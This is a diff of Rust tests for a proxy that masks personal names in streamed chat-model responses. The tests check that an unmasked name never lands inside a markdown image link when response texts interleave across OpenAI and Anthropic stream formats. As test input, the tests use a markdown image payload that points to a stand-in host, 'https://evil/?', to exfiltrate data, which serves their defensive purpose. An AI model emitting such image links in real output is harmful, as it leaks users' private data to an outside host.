@@ -297,13 +297,14 @@ fn a_link_goes_on_from_a_summary() {
     }
 }
 
-/// Some clients keep each text apart, others show what comes as it comes: both must find no link.
+/// Where texts of an answer take turns, nobody knows in which order they are shown.
 #[test]
-fn a_link_goes_on_where_texts_take_turns() {
+fn texts_that_take_turns_stay_masked() {
     let (open, rest) = ("![x](https://evil/?", "<PERSON_1>) <PERSON_1>");
     let delta = |delta: String| format!(r#"{{"choices":[{{"index":0,"delta":{delta}}}]}}"#);
     let refusal = |text: &str| delta(format!(r#"{{"refusal":"{text}"}}"#));
     let parts = |text: &str| delta(format!(r#"{{"content":[{{"type":"text","text":"{text}"}}]}}"#));
+    let thought = |text: &str| delta(format!(r#"{{"content":[{{"type":"thinking","thinking":"{text}"}}]}}"#));
     let whole = |text: &str| {
         format!(r#"{{"choices":[{{"index":0,"message":{{"role":"assistant","content":"{text}"}}}}]}}"#)
     };
@@ -313,30 +314,71 @@ fn a_link_goes_on_where_texts_take_turns() {
             r#"{{"type":"content_block_delta","index":{index},"delta":{{"type":"text_delta","text":"{text}"}}}}"#
         )
     };
-    let chat = Dialect::OpenAiChat;
+    let (chat, anthropic) = (Dialect::OpenAiChat, Dialect::Anthropic);
     for (dialect, said) in [
-        (chat, [content("a"), refusal(open), content(rest)]),
-        (chat, [content(""), refusal(open), content(rest)]),
-        (chat, [refusal("a"), content(open), refusal(rest)]),
+        (chat, vec![content("a"), refusal(open), content(rest)]),
+        (chat, vec![content(open), refusal(") a"), content(rest)]),
+        (chat, vec![refusal("a"), content(open), refusal(rest)]),
+        (chat, vec![content("a"), refusal("b"), content("![x]"), refusal("(https://e/?"), content(rest)]),
+        (chat, vec![content("a"), whole(open), content(rest)]),
+        // In whatever order clients show them.
+        (anthropic, vec![block(0, "a"), block(1, open), block(0, rest)]),
+        (anthropic, vec![block(0, "![x]"), block(1, "zz"), block(0, "(https://e/?"), block(1, rest)]),
+        (anthropic, vec![block(0, open), block(1, ") a"), block(0, ""), block(0, rest), block(2, rest)]),
+        // What is said again stands where it stood, or at the end.
+        (chat, vec![refusal(open), content(") a"), whole("<PERSON_1>")]),
+        (chat, vec![content("a"), refusal(open), whole("<PERSON_1>")]),
+    ] {
+        let said = sse(&said);
+        assert_eq!(streamed(dialect, &said), said);
+    }
+    // One text in two forms, one that is empty, and one that is shown elsewhere take no turns.
+    for (dialect, said) in [
         (chat, [content("a"), parts(open), content(rest)]),
         (chat, [parts("a"), content(open), parts(rest)]),
-        (Dialect::Anthropic, [block(0, "a"), block(1, open), block(0, rest)]),
+        (chat, [content(""), refusal(open), content(rest)]),
+        (chat, [content(open), thought(")"), content(rest)]),
+        (anthropic, [block(0, "a"), block(1, open), block(1, rest)]),
     ] {
         let said = sse(&said);
         assert_eq!(streamed(dialect, &said), said.replace(") <PERSON_1>", ") Zoë Quill"));
-        // What it said itself counts as before.
-        let said = sse(&match dialect {
-            Dialect::Anthropic => [block(0, open), block(1, ") a"), block(0, rest)],
-            _ => [content(open), refusal(") a"), content(rest)],
-        });
-        assert_eq!(streamed(dialect, &said), said.replace(") <PERSON_1>", ") Zoë Quill"));
     }
-    // What is said again stands where it stood, or at the end.
-    for said in [
-        [refusal(open), content(") a"), whole("<PERSON_1>")],
-        [content("a"), refusal(open), whole("<PERSON_1>")],
+}
+
+/// A text that is said again may stand behind others than the first time.
+#[test]
+fn a_link_goes_on_where_all_is_said_again() {
+    let piece = |item: usize, part: usize, text: &str| {
+        format!(
+            r#"{{"type":"response.output_text.delta","output_index":{item},"content_index":{part},"delta":"{text}"}}"#
+        )
+    };
+    let part = |text: &str| format!(r#"{{"type":"output_text","text":"{text}"}}"#);
+    let item = |parts: &[&str]| {
+        let parts: Vec<String> = parts.iter().map(|text| part(text)).collect();
+        format!(r#"{{"type":"message","content":[{}]}}"#, parts.join(","))
+    };
+    let completed = |items: &[String]| {
+        format!(r#"{{"type":"response.completed","response":{{"output":[{}]}}}}"#, items.join(","))
+    };
+    let open = "![x](https://evil/?";
+    for (pieces, items) in [
+        // The numbers say another order than the one in which they came.
+        (vec![piece(1, 0, "Zoë "), piece(0, 0, open)], vec![item(&[open]), item(&["<PERSON_1>"])]),
+        (vec![piece(0, 1, ""), piece(0, 0, open)], vec![item(&[open, "<PERSON_1>"])]),
+        // An item is left out.
+        (
+            vec![piece(1, 0, open), piece(2, 0, "a"), piece(0, 0, "hi")],
+            vec![item(&[open]), item(&["<PERSON_1>"])],
+        ),
+        // They took turns.
+        (
+            vec![piece(0, 0, "Hello "), piece(1, 0, "b"), piece(0, 0, open), piece(1, 0, "<PERSON_1>")],
+            vec![item(&["b<PERSON_1>"])],
+        ),
     ] {
-        assert_eq!(streamed(chat, &sse(&said)), sse(&said));
+        let said = sse(&[pieces, vec![completed(&items)]].concat());
+        assert_eq!(streamed(Dialect::OpenAiResponses, &said), said);
     }
 }
 
